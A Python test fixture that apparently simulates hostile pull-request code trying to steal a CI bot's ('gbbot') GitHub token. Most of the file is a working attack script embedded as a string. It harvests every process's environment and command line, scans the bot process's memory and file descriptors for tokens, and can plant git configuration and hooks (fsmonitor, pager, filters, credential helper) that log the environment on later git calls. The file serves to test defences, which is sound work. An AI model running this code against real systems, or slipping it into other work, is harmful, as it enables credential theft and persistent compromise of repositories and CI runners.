"""What hostile PR code does to get gbbot's token, as a stdlib-only program an entrypoint runs:
`python ATTACK OUT [--plant-git-hooks HOOK_LOG]`.

It reads every `/proc/<pid>/environ` and `cmdline` it can, the memory of the nearest gbbot
ancestor (`/proc/<pid>/mem`, every readable region), and every file descriptor that process holds
(pipes included), and writes all it read to OUT (JSON). With --plant-git-hooks it also sets, in
the repository it runs in, each git setting that makes a later git call run a program
(core.fsmonitor, core.pager, diff.external, core.sshCommand, a filter with an attribute, an
include.path, a hook), each program appending its environment to HOOK_LOG.
"""

from __future__ import annotations

ATTACK = r"""
import json, os, re, stat, subprocess, sys

out = sys.argv[1]
found = {"environ": {}, "cmdline": {}, "mem": [], "fd": {}, "refused": {}, "gbbot_pid": None}
TOKEN = re.compile(rb"canary_[0-9a-f]{16}|ghs_[A-Za-z0-9_]{8,}")


def read(path, limit=1 << 20):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            return os.read(fd, limit)
        finally:
            os.close(fd)
    except OSError as exc:
        found["refused"][path] = exc.strerror
        return None


me = os.getpid()
for pid in (d for d in os.listdir("/proc") if d.isdigit() and int(d) != me):
    for what in ("environ", "cmdline"):
        data = read(f"/proc/{pid}/{what}")
        if data is not None:
            found[what][pid] = data.decode("latin-1")

def is_gbbot(pid):
    args = (read(f"/proc/{pid}/cmdline") or b"").split(b"\0")
    return b"gbbot" in args or any(a.endswith(b"/bin/gbbot") for a in args)


pid = os.getppid()
while pid > 1:
    if is_gbbot(pid):
        break
    pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
found["gbbot_pid"] = pid
maps = read(f"/proc/{pid}/maps", 1 << 24) or b""
try:
    mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
except OSError as exc:
    found["refused"][f"/proc/{pid}/mem"] = exc.strerror
    mem = None
for line in maps.decode().splitlines() if mem else ():
    span, perms = line.split()[:2]
    if "r" not in perms:
        continue
    start, end = (int(x, 16) for x in span.split("-"))
    try:
        mem.seek(start)
        chunk = mem.read(min(end - start, 1 << 26))
    except (OSError, ValueError, OverflowError):
        continue
    found["mem"] += [m.decode() for m in TOKEN.findall(chunk)]
try:
    fds = os.listdir(f"/proc/{pid}/fd")
except OSError as exc:
    found["refused"][f"/proc/{pid}/fd"] = exc.strerror
    fds = []
for fd in fds:
    data = read(f"/proc/{pid}/fd/{fd}")
    if data:
        found["fd"][fd] = data.decode("latin-1")

git_dir = subprocess.run(["git", "rev-parse", "--git-common-dir"], capture_output=True, text=True).stdout.strip()
if "--plant-git-hooks" in sys.argv and git_dir:  # (fix verification runs in a copy without .git)
    log = sys.argv[sys.argv.index("--plant-git-hooks") + 1]
    hook = os.path.abspath("gbbot-hook.sh")
    with open(hook, "w") as f:
        f.write(f"#!/bin/sh\n{{ echo \"hook $0 $*\"; env; }} >> {log}\ncat\n")
    os.chmod(hook, 0o755)
    def config(*args):
        subprocess.run(["git", "config", *args], check=True)
    config("core.fsmonitor", hook)
    config("core.pager", hook)
    config("diff.external", hook)
    config("core.sshCommand", hook)
    config("filter.evil.clean", hook)
    config("filter.evil.smudge", hook)
    config("filter.evil.required", "true")
    config("diff.evil.textconv", hook)
    included = os.path.abspath("gbbot-included.cfg")
    with open(included, "w") as f:
        f.write(f"[core]\n\tfsmonitor = {hook}\n[credential]\n\thelper = !{hook}\n")
    config("include.path", included)
    os.makedirs(os.path.join(git_dir, "info"), exist_ok=True)
    with open(os.path.join(git_dir, "info", "attributes"), "w") as f:
        f.write("* filter=evil diff=evil\n")
    for name in ("post-checkout", "pre-commit", "reference-transaction", "pre-push"):
        path = os.path.join(git_dir, "hooks", name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(f"#!/bin/sh\n{hook} \"$@\"\n")
        os.chmod(path, 0o755)

with open(out, "w") as f:
    json.dump(found, f)
"""


def leaked(values: list[str], *texts: str) -> list[str]:
    """The `values` that appear in any of `texts`."""
    return [v for v in values if any(v in t for t in texts)]
